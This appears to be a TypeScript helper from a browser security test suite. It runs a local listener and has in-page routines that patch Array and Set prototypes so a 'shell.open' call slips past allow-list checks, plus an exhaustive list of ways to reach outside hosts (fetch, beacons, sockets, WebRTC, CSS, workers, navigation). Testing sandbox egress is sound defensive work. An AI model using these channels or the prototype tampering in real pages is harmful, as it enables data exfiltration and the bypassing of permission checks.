/** The attacker of the security journeys: a place that listens, and a script that tries every way to reach it. */

import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Somebody who listens on this computer, by HTTP, WebSocket and UDP on the same port. */
export interface Listener {
  readonly port: number;
  /** What has arrived. */
  readonly reached: string[];
  close(): Promise<void>;
}

/** Begins to listen. */
export async function listen(): Promise<Listener> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end('got out');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(`socket ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket('udp4', () => reached.push('datagram'));
  await new Promise<void>((bound) => datagrams.bind(port, '127.0.0.1', bound));
  const close = async () => {
    datagrams.close();
    server.closeAllConnections();
    await new Promise((closed) => server.close(closed));
  };
  return { port, reached, close };
}

/** Runs in the page: sets the tripwire that the scripts of hostile reports pull. */
export function setTripwire(): void {
  Object.assign(globalThis, { tripwire: () => document.documentElement.setAttribute('data-ran', '') });
}

/** Runs in the page: has the page's own parts say yes to a call that is none, without breaking the page it hides in. */
export function tamper(): void {
  const includes = Array.prototype.includes;
  const call = 'shell.open';
  Array.prototype.includes = function (this: unknown[], sought: unknown, from?: number) {
    return sought === call || includes.call(this, sought, from);
  };
  const { has } = Set.prototype;
  Set.prototype.has = function (this: Set<unknown>, sought: unknown) {
    return sought === call || has.call(this, sought);
  };
  try {
    Object.assign(window.workbench, { call: () => 'mine' });
  } catch {}
}

/**
 * Runs in the page: tries every known way out to each host, and gives the number of ways that it tried; where `leaves` is
 * false, those only that do not lead the page elsewhere.
 */
export async function tryEveryWay(hosts: readonly string[], leaves = true): Promise<number> {
  let tried = 0;
  // What he tried with before has had its time, and would only make the page slower.
  for (const left of document.querySelectorAll('[data-attack]')) left.remove();
  for (const host of hosts) {
    const out = `http://${host}`;
    const page = window as unknown as Record<string, new (...all: unknown[]) => Record<string, () => unknown>>;
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      element.setAttribute('data-attack', '');
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const submit = (attributes: Record<string, string>) => (add('form', attributes) as HTMLFormElement).submit();
    const ways: (() => unknown)[] = [
      () => fetch(`${out}/fetch`),
      () => fetch(`${out}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'x' }),
      () => fetch(`${out}/kept`, { keepalive: true }),
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${out}/request`);
        request.send();
      },
      () => navigator.sendBeacon(`${out}/beacon`, 'x'),
      () => new WebSocket(`ws://${host}/socket`),
      () => new EventSource(`${out}/events`),
      () => page.WebTransport && new page.WebTransport(`https://${host}/transport`),
      () => page.WebSocketStream && new page.WebSocketStream(`ws://${host}/stream`),
      () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] }).createDataChannel('x'),
      () => add('img', { src: `${out}/img` }),
      () => add('img', { srcset: `${out}/srcset 1x` }),
      () => add('input', { type: 'image', src: `${out}/input` }),
      () => add('video', { src: `${out}/video`, poster: `${out}/poster` }),
      () => add('audio', { src: `${out}/audio`, autoplay: '' }),
      () => add('track', { src: `${out}/track` }),
      () => add('iframe', { src: `${out}/frame` }),
      () => add('object', { data: `${out}/object` }),
      () => add('embed', { src: `${out}/embed` }),
      () => add('body', { background: `${out}/body` }),
      () => add('table', { background: `${out}/table` }),
      () => add('script', { src: `${out}/script.js` }),
      () => add('link', { rel: 'stylesheet', href: `${out}/style.css` }),
      () => add('link', { rel: 'prefetch', href: `${out}/prefetch` }),
      () => add('link', { rel: 'preload', as: 'image', href: `${out}/preload` }),
      () => add('link', { rel: 'modulepreload', href: `${out}/module.js` }),
      () => add('link', { rel: 'preconnect', href: out }),
      () => add('link', { rel: 'dns-prefetch', href: out }),
      () => add('link', { rel: 'icon', href: `${out}/icon` }),
      () => add('link', { rel: 'manifest', href: `${out}/manifest` }),
      () => add('base', { href: out }),
      () => add('style', {}).append(`@import "${out}/import"; body { background: url(${out}/background) }`),
      () => Object.assign(document.body.style, { backgroundImage: `url(${out}/inline)` }),
      () => new FontFace('x', `url(${out}/font)`).load(),
      () => {
        const svg = (name: string) => document.createElementNS('http://www.w3.org/2000/svg', name);
        const image = document.body.appendChild(svg('svg')).appendChild(svg('image'));
        image.setAttribute('href', `${out}/svg`);
      },
      () => new Worker(`${out}/worker.js`),
      () => new SharedWorker(`${out}/shared.js`),
      () => navigator.serviceWorker.register(`${out}/service.js`),
      () => CSS.paintWorklet?.addModule(`${out}/worklet.js`),
      () => import(/* @vite-ignore */ `${out}/import.js`),
    ];
    const leaving: typeof ways = [
      () => add('a', { href: `${out}/pinging`, ping: `${out}/ping` }).click(),
      () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${out}/refresh` }),
      () => window.open(`${out}/open`),
      () => submit({ action: `${out}/form`, method: 'post' }),
      () => submit({ action: `${out}/blank`, target: '_blank' }),
      () => add('a', { href: `${out}/blank`, target: '_blank' }).click(),
      () => add('a', { href: `${out}/download`, download: '' }).click(),
      () => add('a', { href: `${out}/link` }).click(),
      () => location.assign(`${out}/location`),
      () => location.replace(`${out}/replace`),
    ];
    const all = leaves ? [...ways, ...leaving] : ways;
    tried += all.length;
    for (const way of all)
      try {
        void Promise.resolve(way()).catch(() => {});
      } catch {}
  }
  await new Promise((done) => setTimeout(done, 1_500));
  return tried;
}

declare global {
  namespace CSS {
    const paintWorklet: { addModule(address: string): Promise<void> } | undefined;
  }
}
